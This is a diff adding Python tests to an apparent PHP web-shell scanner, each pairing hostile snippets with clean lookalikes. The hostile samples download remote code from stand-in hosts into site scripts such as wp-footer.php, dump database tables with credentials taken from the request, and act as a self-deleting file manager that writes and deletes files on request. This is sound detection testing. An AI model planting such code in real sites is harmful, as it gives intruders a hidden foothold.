@@ -266,3 +266,37 @@ def test_stream_wrapper_in_front_of_a_request_path():
 def test_stream_wrapper_on_a_fixed_path_is_clean():
     _clean("<?php $d = file_get_contents('compress.zlib://' . __DIR__ . '/data.gz'); echo strlen($d);"
            " echo htmlspecialchars($_GET['q']);")
+
+
+def test_code_downloaded_into_a_script_file():
+    _shell("<?php $t = file_get_contents('https://paste.example/raw/x1');"
+           " $h = fopen($_SERVER['DOCUMENT_ROOT'] . '/wp-footer.php', 'w'); fwrite($h, $t); fclose($h);",
+           rule="php.request-file-write")
+    _shell("<?php $u = 'http://example.test/t/a1.php'; $f = pathinfo($u, PATHINFO_BASENAME);"
+           " $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); file_put_contents($f, curl_exec($c));",
+           rule="php.request-file-write")
+
+
+def test_downloaded_data_saved_as_data_is_clean():
+    _clean("<?php $t = file_get_contents('https://api.example/rates.json');"
+           " file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/cache/rates.json', $t);")
+
+
+def test_table_dump_on_request_credentials():
+    _shell("<?php $l = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']);"
+           " $r = mysql_query('SHOW TABLES'); while ($t = mysql_fetch_row($r)) { echo $t[0]; }", rule="php.sql-client")
+
+
+def test_table_listing_on_configured_credentials_is_clean():
+    _clean("<?php $l = mysql_connect('localhost', 'app', 'pw'); $r = mysql_query('SHOW TABLES');"
+           " while ($t = mysql_fetch_row($r)) { echo htmlspecialchars($t[0]); }")
+
+
+def test_a_file_tool_that_deletes_itself_scores_higher():
+    tool = ("<?php foreach (scandir($_GET['d']) as $f) { echo $f; }"
+            " if (isset($_GET['x'])) { file_put_contents($_GET['p'], $_GET['c']); unlink($_GET['r']); }")
+
+    def fm(code):
+        return max(h.confidence for h in _hits(code) if h.rule == "php.file-manager")
+
+    assert fm(tool + " unlink(__FILE__);") >= fm(tool) + 0.14
